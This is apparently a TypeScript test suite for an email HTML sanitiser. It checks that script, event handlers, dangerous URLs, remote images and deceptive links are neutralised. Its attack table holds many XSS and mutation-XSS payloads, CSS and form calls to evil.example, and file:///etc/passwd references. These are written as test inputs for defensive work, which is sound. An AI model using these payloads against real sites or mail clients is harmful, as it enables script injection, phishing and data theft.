import fc from 'fast-check';
import { sanitiseHtml } from './sanitise-html.js';

const safe = (html: string) => sanitiseHtml(html, { title: 'Objet' });
const bodyOf = (document: string) => /<body>([^]*)<\/body>/.exec(document)![1];
const cleaned = (html: string) => bodyOf(safe(html).document);

const TAGS =
  /^(a|abbr|address|article|b|bdi|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|ol|p|pre|q|s|section|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|wbr)$/;
const ATTRIBUTES =
  /^(dir|lang|align|style|data-to|role|tabindex|title|src|alt|width|height|class|colspan|rowspan|valign|scope|border|cellpadding|cellspacing|start|type|color|size)$/;

/** Reads the document as a tokenizer does and names everything in it that could act. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(
    /<(\/?)([a-z][^\s/>]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/gi,
    (_, __, tag, list) => {
      if (!TAGS.test(tag)) found.push(`<${tag}>`);
      for (const [, name, value = ''] of String(list).matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/gi)) {
        if (!ATTRIBUTES.test(name)) found.push(`${tag} ${name}`);
        if (name === 'src' && !/^data:image\/(png|jpe?g|gif|webp|bmp);base64,/.test(value))
          found.push(`src ${value}`);
        if (name === 'style' && /url|expression|import|position|[@\\<]|-moz|behavior/i.test(value))
          found.push(value);
        if (name === 'data-to' && !/^(https?:|mailto:)/.test(value)) found.push(value);
      }
      return '';
    },
  );
  if (rest.includes('<')) found.push(rest.slice(rest.indexOf('<'), rest.indexOf('<') + 60));
  return found;
}

const attacks: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script without end': '<script>alert(1)',
  handler: '<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover=alert(1)>x</div>',
  'handler behind a slash': '<img/src=x/onerror=alert(1)>',
  'handler behind a quote': `<p title="'"onclick=alert(1)>x`,
  'javascript address': '<a href="javascript:alert(1)">x</a><a href="jAva&#10;script:alert(1)">x</a>',
  'javascript behind controls': '<a href="\u0001java\u0000script:alert(1)">x</a>',
  'data address': '<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:text/html,x">',
  'vbscript and file': '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a>',
  form: '<form action=https://evil.example><input name=a type=password><button formaction=x>ok</button></form>',
  refresh: '<meta http-equiv=refresh content="0;url=https://evil.example">',
  base: '<base href=https://evil.example/><a href=/x>x</a>',
  'style sheet':
    '<link rel=stylesheet href=https://evil.example><style>@import "https://evil.example";*{}</style>',
  font: '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  'css that reaches out': '<p style="background:url(https://evil.example/a)">x</p>',
  'css in disguise':
    '<p style="background-color:u\\72l(https://evil.example)">x</p><p style="color:expression(alert(1))">x</p>',
  'css import': `<p style="color:red;@import 'https://evil.example'">x</p>`,
  overlay: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">sign in</div>',
  'pulled over': '<div style="margin:-500px 0 0 -500px">sign in</div>',
  frame:
    '<iframe src=https://evil.example srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=x></frameset>',
  object: '<object data=x><embed src=x><param name=movie value=x></object><applet code=x></applet>',
  svg: '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mathml action':
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  template: '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  xmp: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'xmp in xmp': '<xmp></xmp<xmp>><script>alert(1)</script></xmp>',
  'xmp with entities': '<xmp>&lt;/xmp&gt;&lt;script&gt;alert(1)&lt;/script&gt;</xmp>',
  noembed: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  noframes: '<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>',
  plaintext: '<plaintext><script>alert(1)</script>',
  textarea: '<textarea></textarea><script>alert(1)</script></textarea>',
  title: '<title></title><img src=x onerror=alert(1)></title>',
  select: '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  comment: '<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script> -->',
  'comments in comments': '<!-- <!-- --> <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]>',
  'conditional comment':
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !IE]><b>x</b><![endif]>',
  'processing instruction': '<?xml version="1.0"?><?php echo 1 ?><!ENTITY x SYSTEM "file:///etc/passwd">',
  'form in a table': '<table><form><tr><td><style></table><img src=x onerror=alert(1)></style>',
  'mutation by nesting': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'desc of svg': '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>',
  'isindex and keygen': '<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>',
  details: '<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>',
  media: '<video src=x onerror=alert(1) poster=https://evil.example/p><source src=x></video><audio src=x>',
  'upper case and nul': '<SCR\u0000IPT>alert(1)</SCR\u0000IPT><ScRiPt >alert(1)</sCrIpT >',
  'half tag': '<img src="x` `<script>alert(1)</script>"` `>',
  'unclosed attribute': '<a href="https://a.example title="x"onmouseover="alert(1)">x</a>',
  clobbering: '<a id=document name=cookie href=https://a.example>x</a><img name=body id=body>',
  'link that pretends': '<a data-to="javascript:alert(1)" role=x tabindex=9 onclick=alert(1)>x</a>',
};

describe('the HTML of a mail', () => {
  it.each(Object.entries(attacks))('cannot act: %s', (_, html) => {
    expect(dangers(cleaned(html))).toEqual([]);
  });
  it('cannot act when it was made harmless once before', () => {
    for (const html of Object.values(attacks)) expect(dangers(cleaned(cleaned(html)))).toEqual([]);
  });
  it('cannot act however its pieces are put together', () => {
    const pieces = Object.values(attacks).flatMap((html) => html.split(/(?<=[>"])|(?=<)/));
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
        expect(dangers(cleaned(parts.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
  it('keeps what a reader needs', () => {
    expect(
      cleaned(
        '<p style="color: #333; margin: 0 4px">Bonjour <b>Zoé</b></p><table><tr><td colspan="2">1</td></tr></table>',
      ),
    ).toBe(
      '<p style="color:#333;margin:0 4px">Bonjour <b>Zoé</b></p><table><tr><td colspan="2">1</td></tr></table>',
    );
  });
  it('shows its subject as text only', () => {
    const { document } = sanitiseHtml('x', { title: '</title><script>alert(1)</script>' });
    expect(document).not.toContain('<script>');
  });
});

describe('pictures from elsewhere', () => {
  it('are left out and counted, wherever they hide', () => {
    const { document, remoteImages } = safe(`
      <img src="https://evil.example/1.gif" alt="Logo"><img src="//evil.example/2"><img src=" HTTPS://evil.example/3">
      <img srcset="https://evil.example/4 2x"><table background="https://evil.example/5"><tr><td></td></tr></table>
      <p style="background-image:url('http://evil.example/6')">x</p><input type=image src=https://evil.example/7>
      <video poster=https://evil.example/8></video><img src="\\\\evil.example\\9">`);
    expect(remoteImages).toBe(9);
    expect(document).not.toContain('evil.example');
    expect(document).toContain('<span class="blocked">Logo</span>');
  });
});

describe('pictures of the mail itself', () => {
  const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
  const html = `<img src="${pixel}" alt="x"><img src="cid:logo@here" alt="Logo"><img src="data:text/html,x"><img src="x.png">`;
  it('are never shown as they were received', () => {
    const { document, remoteImages, wanted } = safe(html);
    expect(remoteImages).toBe(0);
    expect(wanted).toEqual([pixel, 'cid:logo@here']);
    expect(document).not.toContain('<img');
    expect(document.match(/class="missing"/g)).toHaveLength(4);
  });
  it('stand in their place once drawn anew', () => {
    const pictures = new Map([['cid:logo@here', 'data:image/png;base64,AAAA']]);
    const { document } = sanitiseHtml(html, { title: '', pictures });
    expect(document).toContain('<img alt="Logo" src="data:image/png;base64,AAAA" />');
    expect(document.match(/<img/g)).toHaveLength(1);
  });
});

describe('a link', () => {
  const target = (href: string) => /data-to="([^"]*)"/.exec(cleaned(`<a href="${href}">x</a>`))?.[1] ?? null;
  it('leads nowhere by itself and carries its whole target', () => {
    const html = cleaned(
      '<a href="https://evil.example/a?b=1&amp;c=2" target="_top" ping="https://x.example">Ma banque</a>',
    );
    expect(html).toBe(
      '<a data-to="https://evil.example/a?b=1&amp;c=2" role="link" tabindex="0" title="https://evil.example/a?b=1&amp;c=2">Ma banque</a>',
    );
  });
  it.each([
    ['https://аррӏе.com/', 'https://xn--80ak6aa92e.com/'],
    ['//evil.example/x', 'https://evil.example/x'],
    ['https://evil\u202e.example/', 'https://evil.example/'],
    ['mailto:dpo@mailo.com', 'mailto:dpo@mailo.com'],
    ['ht\ntps://evil.example', 'https://evil.example/'],
  ])('shows the true host of %j', (href, shown) => expect(target(href)).toBe(shown));
  it.each([
    '#top',
    '/api/session',
    'relative',
    'ftp://a.example',
    'tel:118',
    'https://',
    'blob:https://a.example/1',
  ])('is plain text when it leads to %s', (href) => expect(target(href)).toBeNull());
});
